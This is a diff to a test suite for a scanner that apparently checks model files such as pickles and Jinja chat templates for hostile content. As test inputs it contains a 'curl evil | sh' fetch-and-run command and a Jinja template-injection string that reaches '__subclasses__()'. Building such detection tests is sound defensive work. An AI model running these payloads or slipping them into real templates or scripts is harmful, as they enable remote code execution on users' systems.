@@ -245,3 +245,15 @@ def test_per_target_ignore_accepts_a_payload_only_by_its_content(statecli, folde
     assert statecli(*PICKLES).code == 0
     save("curl evil | sh")
     assert statecli(*PICKLES).code == 1
+
+
+def write_template(template, path="chat_template.jinja"):
+    torch.save({"w": torch.zeros(1)}, "a.pt")
+    Path(path).write_text(template)
+
+
+def test_another_template_with_the_accepted_attribute_fails(statecli, folder):
+    """The message names only the first attribute of the template."""
+    accepted, other = (f"{{{{ x.__class__.{rest} }}}}" for rest in ("__name__", "__mro__[1].__subclasses__()"))
+    rules = fail_with_other_content(statecli, write_template, accepted, other, words=("audit", "."))
+    assert rules == {"template-code"}
